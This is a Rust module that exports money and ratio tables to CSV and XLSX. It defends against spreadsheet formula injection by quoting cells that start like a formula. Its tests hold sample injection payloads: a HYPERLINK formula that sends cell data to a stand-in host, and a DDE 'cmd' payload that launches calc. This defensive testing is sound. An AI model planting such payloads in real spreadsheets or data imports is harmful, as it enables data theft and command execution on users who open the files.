//! A sheet of typed cells (text, money in fen, counts, ratios, decimals) and its two renderings: CSV in
//! UTF-8 with a byte-order mark (so that Excel in zh-CN opens it correctly) and XLSX sheets with number
//! formats for money and percentages and column widths. Text cells that a spreadsheet would read as a
//! formula are defused in both ([`defused`]); numbers are typed cells and stay numbers.

use super::ExportError;
use super::money::yuan;
use rust_xlsxwriter::{Format, Workbook, Worksheet};
use serde::Serialize;
use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula (or as the start of one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` safe to put in a spreadsheet cell: prefixed with a single quote when it starts like a
/// formula (OWASP's CSV-injection advice), so `=HYPERLINK(…)` in an imported item name is shown, not
/// run. Only text cells pass here: amounts and counts are numbers and are written as numbers.
pub fn defused(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// One cell.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(untagged)]
pub enum Value {
    /// Text.
    Text(String),
    /// Money in fen, shown in yuan with two decimals.
    Fen(i64),
    /// A whole number.
    Count(i64),
    /// A ratio shown as a percentage (`0.5` → 50.0%).
    Ratio(f64),
    /// A decimal shown with two decimals (prices, days).
    Decimal(f64),
    /// A quantity shown as it is.
    Number(f64),
    /// Nothing (e.g. a rate without reviewed flags).
    Empty,
}

impl Value {
    /// Text from anything printable.
    pub fn text(value: impl ToString) -> Value {
        Value::Text(value.to_string())
    }

    /// A ratio, or empty.
    pub fn ratio(value: Option<f64>) -> Value {
        value.map_or(Value::Empty, Value::Ratio)
    }

    /// The cell as CSV text.
    pub fn csv_text(&self) -> String {
        match self {
            Value::Text(s) => defused(s).into_owned(),
            Value::Fen(fen) => yuan(*fen),
            Value::Count(n) => n.to_string(),
            Value::Ratio(r) => format!("{:.1}%", r * 100.0),
            Value::Decimal(d) => format!("{d:.2}"),
            Value::Number(n) => n.to_string(),
            Value::Empty => String::new(),
        }
    }
}

/// A column: its bilingual header and its width in characters.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Column {
    /// The header (`结算ID setl_id`).
    pub header: String,
    /// Width in Excel character units.
    pub width: f64,
}

impl Column {
    /// A column.
    pub fn new(header: &str, width: f64) -> Column {
        Column {
            header: header.to_owned(),
            width,
        }
    }
}

/// A sheet: title lines, a header row, data rows and an optional total row.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Table {
    /// The sheet name (at most 31 characters, none of `[]:*?/\`).
    pub sheet: String,
    /// Lines written above the header (report title, period); XLSX only.
    pub title: Vec<String>,
    /// The columns.
    pub columns: Vec<Column>,
    /// The data rows.
    pub rows: Vec<Vec<Value>>,
    /// The total row (`合计 total`), if any.
    pub total: Option<Vec<Value>>,
    /// Rows below the table (e.g. the log chain heads): after the total row in CSV, after a blank row
    /// in XLSX.
    pub footer: Vec<Vec<Value>>,
}

impl Table {
    /// The header row followed by the data rows and the total row.
    fn body(&self) -> impl Iterator<Item = &Vec<Value>> {
        self.rows.iter().chain(self.total.iter())
    }

    /// The table as CSV: UTF-8 with a byte-order mark, the header row, the rows, the total row.
    pub fn to_csv(&self) -> Result<Vec<u8>, ExportError> {
        let csv_error = |e: csv::Error| ExportError::Csv(e.to_string());
        let mut writer = csv::WriterBuilder::new().from_writer(b"\xEF\xBB\xBF".to_vec());
        writer
            .write_record(self.columns.iter().map(|c| c.header.as_str()))
            .map_err(csv_error)?;
        for row in self.body() {
            writer
                .write_record(row.iter().map(Value::csv_text))
                .map_err(csv_error)?;
        }
        for row in &self.footer {
            // Padded to the table's width: every record of the file has the same number of fields.
            let width = self.columns.len().max(row.len());
            writer
                .write_record(
                    (0..width).map(|i| row.get(i).map(Value::csv_text).unwrap_or_default()),
                )
                .map_err(csv_error)?;
        }
        writer
            .into_inner()
            .map_err(|e| ExportError::Csv(e.error().to_string()))
    }
}

/// The number formats, made once per workbook.
struct Formats {
    title: Format,
    header: Format,
    money: Format,
    count: Format,
    percent: Format,
    decimal: Format,
    total_text: Format,
    total_money: Format,
    total_count: Format,
}

impl Formats {
    fn new() -> Formats {
        let money = "#,##0.00";
        Formats {
            title: Format::new().set_bold().set_font_size(13),
            header: Format::new()
                .set_bold()
                .set_background_color(0xDDEBF7)
                .set_border_bottom(rust_xlsxwriter::FormatBorder::Thin),
            money: Format::new().set_num_format(money),
            count: Format::new().set_num_format("#,##0"),
            percent: Format::new().set_num_format("0.0%"),
            decimal: Format::new().set_num_format("0.00"),
            total_text: Format::new().set_bold(),
            total_money: Format::new().set_bold().set_num_format(money),
            total_count: Format::new().set_bold().set_num_format("#,##0"),
        }
    }
}

fn write_cell(
    sheet: &mut Worksheet,
    row: u32,
    col: u16,
    value: &Value,
    formats: &Formats,
    total: bool,
) -> Result<(), ExportError> {
    match value {
        Value::Text(s) if total => {
            sheet.write_string_with_format(row, col, defused(s), &formats.total_text)?;
        }
        Value::Text(s) => {
            sheet.write_string(row, col, defused(s))?;
        }
        // Shown in yuan: fen / 100 is the nearest double to the exact amount, and Excel's two
        // decimals show it exactly. Sums are made in fen before this point.
        Value::Fen(fen) => {
            let format = if total {
                &formats.total_money
            } else {
                &formats.money
            };
            sheet.write_number_with_format(row, col, *fen as f64 / 100.0, format)?;
        }
        Value::Count(n) => {
            let format = if total {
                &formats.total_count
            } else {
                &formats.count
            };
            sheet.write_number_with_format(row, col, *n as f64, format)?;
        }
        Value::Ratio(r) => {
            sheet.write_number_with_format(row, col, *r, &formats.percent)?;
        }
        Value::Decimal(d) => {
            sheet.write_number_with_format(row, col, *d, &formats.decimal)?;
        }
        Value::Number(n) => {
            sheet.write_number(row, col, *n)?;
        }
        Value::Empty => {}
    }
    Ok(())
}

/// The tables as one workbook, one sheet each, in order. The header row is frozen.
pub fn to_xlsx(tables: &[Table]) -> Result<Vec<u8>, ExportError> {
    let formats = Formats::new();
    let mut workbook = Workbook::new();
    for table in tables {
        let sheet = workbook.add_worksheet();
        sheet.set_name(&table.sheet)?;
        let mut row: u32 = 0;
        for line in &table.title {
            sheet.write_string_with_format(row, 0, line, &formats.title)?;
            row += 1;
        }
        if !table.title.is_empty() {
            row += 1;
        }
        for (col, column) in (0u16..).zip(&table.columns) {
            sheet.write_string_with_format(row, col, &column.header, &formats.header)?;
            sheet.set_column_width(col, column.width)?;
        }
        sheet.set_freeze_panes(row + 1, 0)?;
        row += 1;
        for (i, cells) in table.body().enumerate() {
            let total = table.total.is_some() && i == table.rows.len();
            for (col, value) in (0u16..).zip(cells) {
                write_cell(sheet, row, col, value, &formats, total)?;
            }
            row += 1;
        }
        if !table.footer.is_empty() {
            row += 1;
        }
        for cells in &table.footer {
            for (col, value) in (0u16..).zip(cells) {
                write_cell(sheet, row, col, value, &formats, false)?;
            }
            row += 1;
        }
    }
    Ok(workbook.save_to_buffer()?)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Table {
        Table {
            sheet: "明细 Detail".into(),
            title: vec!["标题 title".into()],
            columns: vec![
                Column::new("名称 name", 20.0),
                Column::new("金额 amount", 12.0),
                Column::new("比例 rate", 10.0),
            ],
            rows: vec![
                vec![
                    Value::text("甲, \"乙\""),
                    Value::Fen(12_345),
                    Value::Ratio(0.5),
                ],
                vec![Value::text("丙"), Value::Fen(-5), Value::Empty],
            ],
            total: Some(vec![
                Value::text("合计 total"),
                Value::Fen(12_340),
                Value::Empty,
            ]),
            footer: Vec::new(),
        }
    }

    #[test]
    fn csv_has_a_bom_quoted_fields_and_yuan() {
        let bytes = sample().to_csv().expect("csv");
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let text = std::str::from_utf8(&bytes[3..]).expect("utf-8");
        assert_eq!(
            text,
            "名称 name,金额 amount,比例 rate\n\"甲, \"\"乙\"\"\",123.45,50.0%\n丙,-0.05,\n\
             合计 total,123.40,\n"
        );
    }

    fn injected() -> Table {
        let cells = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "透析 =1",
        ];
        Table {
            sheet: "明细 Detail".into(),
            title: vec![],
            columns: vec![
                Column::new("名称 name", 20.0),
                Column::new("金额 amount", 12.0),
            ],
            rows: cells
                .iter()
                .map(|c| vec![Value::text(c), Value::Fen(-500)])
                .collect(),
            total: None,
            footer: Vec::new(),
        }
    }

    #[test]
    fn formula_like_text_is_defused_in_csv_and_numbers_stay_numbers() {
        let bytes = injected().to_csv().expect("csv");
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        let firsts: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
        assert_eq!(
            firsts,
            [
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
                "'+1+cmd|' /C calc'!A0",
                "'-2+3",
                "'@SUM(A1:A2)",
                "'\t=1",
                "'\r=1",
                "透析 =1",
            ]
        );
        assert!(rows.iter().all(|r| &r[1] == "-5.00"), "amounts are numbers");
    }

    #[test]
    fn formula_like_text_is_defused_in_xlsx_and_numbers_stay_numbers() {
        use calamine::{Data, Reader};
        let bytes = to_xlsx(&[injected()]).expect("xlsx");
        let mut workbook =
            calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("a valid workbook");
        let range = workbook.worksheet_range("明细 Detail").expect("sheet");
        assert_eq!(
            range.get_value((1, 0)),
            Some(&Data::String(
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")".into()
            ))
        );
        assert_eq!(
            range.get_value((4, 0)),
            Some(&Data::String("'@SUM(A1:A2)".into()))
        );
        assert_eq!(
            range.get_value((7, 0)),
            Some(&Data::String("透析 =1".into()))
        );
        assert_eq!(range.get_value((1, 1)), Some(&Data::Float(-5.0)));
    }

    #[test]
    fn a_footer_follows_the_total_padded_to_the_width() {
        let table = Table {
            footer: vec![vec![Value::text("链头 head"), Value::text("audit:1:ab")]],
            ..sample()
        };
        let bytes = table.to_csv().expect("csv");
        let text = std::str::from_utf8(&bytes[3..]).expect("utf-8");
        assert!(
            text.ends_with("合计 total,123.40,\n链头 head,audit:1:ab,\n"),
            "{text}"
        );
        use calamine::{Data, Reader};
        let bytes = to_xlsx(&[table]).expect("xlsx");
        let mut workbook =
            calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("a valid workbook");
        let range = workbook.worksheet_range("明细 Detail").expect("sheet");
        // Title, blank, header, two rows, total, blank, footer.
        assert_eq!(
            range.get_value((7, 1)),
            Some(&Data::String("audit:1:ab".into()))
        );
    }

    #[test]
    fn xlsx_reads_back_with_values_in_yuan() {
        use calamine::{Data, Reader};
        let bytes = to_xlsx(&[sample()]).expect("xlsx");
        let mut workbook =
            calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("a valid workbook");
        let range = workbook.worksheet_range("明细 Detail").expect("sheet");
        assert_eq!(
            range.get_value((0, 0)),
            Some(&Data::String("标题 title".into()))
        );
        assert_eq!(
            range.get_value((2, 1)),
            Some(&Data::String("金额 amount".into()))
        );
        assert_eq!(range.get_value((3, 1)), Some(&Data::Float(123.45)));
        assert_eq!(range.get_value((3, 2)), Some(&Data::Float(0.5)));
        assert_eq!(range.get_value((5, 1)), Some(&Data::Float(123.4)));
    }
}
